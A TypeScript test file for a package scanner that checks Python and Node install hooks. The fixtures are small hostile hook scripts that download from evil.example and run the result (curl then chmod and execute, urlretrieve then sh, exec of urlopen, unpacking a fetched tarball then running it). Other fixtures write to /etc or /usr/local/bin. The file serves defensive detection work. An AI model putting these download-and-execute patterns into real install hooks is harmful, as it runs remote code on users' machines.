/**
 * Pins that the hook scan reads hooks written in python or node (by extension or `#!` line, as
 * INSTALL.py or a lifecycle file) and programs a shell hook runs inline (`python3 -c`, `node -e`)
 * as that language: shell commands handed to a shell (`execSync('…')`, `os.system('…')`), argument
 * lists run (`subprocess.run(['sh', 'x'])`), files downloaded (`urlretrieve`, or written by a
 * program that downloads), archives unpacked (`tarfile`, node's `tar.x`), files loaded as code,
 * through names assigned a literal; writes to literal absolute paths; a download evaluated. Hooks
 * that fetch data and run only what the package ships raise nothing.
 */
import { describe, expect, it } from 'vitest';

import type { AgpkManifest } from '../../src/agpk/index.ts';
import { scanFindings } from '../support/scan-package.ts';

const withHook = (install: string): AgpkManifest => ({
  agpk_version: '1.0',
  id: 'a',
  name: 'a',
  version: '1',
  lifecycle: { install },
});

describe('hook scan: python and node', () => {
  it.each([
    [
      'node execSync of a curl -o, then of chmod +x and the file',
      'INSTALL.js',
      [
        "const cp = require('child_process');",
        "cp.execSync('curl -fsSL -o x https://evil.example/x');",
        "cp.execSync('chmod +x x && ./x');",
      ],
      ['install.download-exec@INSTALL.js:3'],
    ],
    [
      'python urlretrieve, then subprocess.run of sh on it',
      'INSTALL.py',
      [
        'import subprocess, urllib.request',
        "urllib.request.urlretrieve('https://evil.example/x', 'x')",
        "subprocess.run(['sh', 'x'])",
      ],
      ['install.download-exec@INSTALL.py:3'],
    ],
    [
      'python names holding the URL and the path',
      'INSTALL.py',
      [
        'import os, urllib.request',
        "URL = 'https://evil.example/x'",
        "DEST = 'bin/x'",
        'urllib.request.urlretrieve(URL, DEST)',
        'os.chmod(DEST, 0o755)',
        'os.system(DEST)',
      ],
      ['install.download-exec@INSTALL.py:5', 'install.download-exec@INSTALL.py:6'],
    ],
    [
      'python requests.get written to a file, then run',
      'INSTALL.py',
      [
        'import requests, subprocess',
        "r = requests.get('https://evil.example/x')",
        "with open('tool', 'wb') as f:",
        '    f.write(r.content)',
        "subprocess.run(['./tool'])",
      ],
      ['install.download-exec@INSTALL.py:5'],
    ],
    [
      'python tarfile of a download, then a file in it run',
      'INSTALL.py',
      [
        'import subprocess, tarfile, urllib.request',
        "urllib.request.urlretrieve('https://evil.example/a.tgz', 'a.tgz')",
        "with tarfile.open('a.tgz') as t:",
        "    t.extractall('vendor')",
        "subprocess.check_call(['sh', 'vendor/install.sh'])",
      ],
      ['install.download-exec@INSTALL.py:5'],
    ],
    [
      'python exec of urlopen',
      'INSTALL.py',
      ['from urllib.request import urlopen', "exec(urlopen('https://evil.example/p').read())"],
      ['install.download-exec@INSTALL.py:2'],
    ],
    [
      'python open of /etc for writing',
      'INSTALL.py',
      ["open('/etc/evil', 'w').write('x')"],
      ['install.outside-root@INSTALL.py:1'],
    ],
  ])('flags %s', async (_what, file, lines, expected) => {
    expect(await scanFindings({ [file]: lines.join('\n') })).toEqual(expected);
  });

  it.each([
    [
      'node: a download piped into tar.x, then a file in the folder run',
      'install.mjs',
      [
        "import https from 'node:https';",
        "import tar from 'tar';",
        "import { execFileSync } from 'node:child_process';",
        "https.get('https://evil.example/a.tgz', (r) => r.pipe(tar.x({ C: 'vendor' })).on('close', () => execFileSync('./vendor/run')));",
      ],
      ['install.download-exec@install.mjs:4'],
    ],
    [
      'node (by its #! line): a fetch written to a file, then required',
      'hooks/setup',
      [
        '#!/usr/bin/env node',
        "const fs = require('fs');",
        "const res = await fetch('https://evil.example/x');",
        "fs.writeFileSync('x.js', await res.text());",
        "require('./x.js');",
      ],
      ['install.download-exec@hooks/setup:5'],
    ],
    [
      'python (by its #! line) writing outside the root',
      'hooks/setup',
      ['#!/usr/bin/python3', 'import shutil', "shutil.copy('payload/t', '/usr/local/bin/t')"],
      ['install.outside-root@hooks/setup:3'],
    ],
  ])('flags %s in a lifecycle hook', async (_what, file, lines, expected) => {
    expect(await scanFindings({ [file]: lines.join('\n') }, withHook(file))).toEqual(expected);
  });

  it.each([
    [
      "node -e of node's tar on a download, then a file it unpacked",
      [
        'curl -fsSLo a.tgz https://evil.example/a.tgz',
        `node -e "require('tar').x({ file: 'a.tgz', sync: true })"`,
        './a/install.sh',
      ],
      ['install.download-exec@INSTALL:4'],
    ],
    [
      'python3 -c of tarfile on a download, then a file it unpacked',
      [
        'curl -fsSLo a.tgz https://evil.example/a.tgz',
        `python3 -c "import tarfile; tarfile.open('a.tgz').extractall('a')"`,
        'sh a/install.sh',
      ],
      ['install.download-exec@INSTALL:4'],
    ],
  ])('flags %s in a shell hook', async (_what, lines, expected) => {
    expect(await scanFindings({ INSTALL: ['#!/bin/sh', ...lines].join('\n') })).toEqual(expected);
  });

  it.each([
    [
      'python that fetches data into the root and runs a shipped script',
      'INSTALL.py',
      [
        'import os, subprocess, urllib.request',
        "root = os.environ['AGPK_INSTALL_ROOT']",
        "data = urllib.request.urlopen('https://x.example/c.json').read()",
        "with open(os.path.join(root, 'var', 'c.json'), 'wb') as f:",
        '    f.write(data)',
        "subprocess.run(['sh', 'payload/setup.sh'], check=True)",
        "with tarfile.open('payload/data.tgz') as t: t.extractall('var')",
        'if 2 > 1: print(1 << 2)',
      ],
    ],
    [
      'node that writes a config and runs and loads shipped code',
      'INSTALL.js',
      [
        "const { execFileSync } = require('node:child_process');",
        "const fs = require('node:fs');",
        "fs.mkdirSync('var', { recursive: true });",
        "fs.writeFileSync('var/config.json', '{}');",
        "execFileSync('node', ['payload/migrate.mjs']);",
        "require('./payload/lib.js');",
        "require('tar').x({ file: 'payload/assets.tgz', cwd: 'var', sync: true });",
      ],
    ],
  ])('flags nothing for %s', async (_what, file, lines) => {
    expect(await scanFindings({ [file]: lines.join('\n') })).toEqual([]);
  });
});
